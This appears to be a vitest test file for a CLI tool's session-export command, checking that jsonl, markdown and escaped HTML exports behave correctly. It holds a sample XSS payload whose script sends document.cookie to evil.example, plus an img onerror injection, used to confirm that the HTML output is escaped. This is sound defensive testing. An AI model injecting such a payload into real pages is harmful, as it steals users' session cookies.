import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sat, tempDir } from './helpers.js';

const SESSION = '491e126e-1e71-469c-ade2-fcc8af567c74';
const HOSTILE = `<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>`;

describe('sat export', () => {
  it('jsonl is the log as stored, md a readable transcript, html one escaped page that loads nothing', async () => {
    const home = tempDir();
    expect((await sat(['import', '--sample'], { home })).code).toBe(0);
    const spool = join(home, 'logs', 'spool');
    mkdirSync(spool, { recursive: true });
    writeFileSync(
      join(spool, `${Date.now()}000001-4242.json`),
      JSON.stringify({
        session_id: SESSION,
        hook_event_name: 'UserPromptSubmit',
        prompt: HOSTILE,
        cwd: home,
      }),
    );

    const jsonl = await sat(['export', '491e126e', '--format', 'jsonl'], { home });
    expect(jsonl.code, jsonl.stderr).toBe(0);
    expect(jsonl.stdout).toBe(readFileSync(join(home, 'logs', `${SESSION}.jsonl`), 'utf8'));

    const md = await sat(['export', SESSION], { home });
    expect(md.stdout).toContain(`# Session ${SESSION}`);
    expect(md.stdout).toContain('Maybe there are igniter scripts?');
    expect(md.stdout).toMatch(/\| claude-opus-4-6 \| \d+ \| \d+ \| \$\d+\.\d{4} \|/);
    expect(md.stdout).toContain('Sub-agent');

    const out = join(home, 'out', 'session.html');
    const html = await sat(['export', SESSION, '--format', 'html', '--out', out], { home });
    expect(html.code, html.stderr).toBe(0);
    expect(html.stdout).toBe('');
    const page = readFileSync(out, 'utf8');
    expect(statSync(out).mode & 0o777).toBe(0o600);
    expect(page).toContain('&lt;script&gt;fetch(');
    expect(page).not.toMatch(/<script|<img|<link|<iframe|<[^>]*\s(src|href|on\w+)=/i);
    expect(page).toContain('Maybe there are igniter scripts?');

    const bad = await sat(['export', SESSION, '--format', 'pdf'], { home });
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('jsonl, md, html');
  });
});
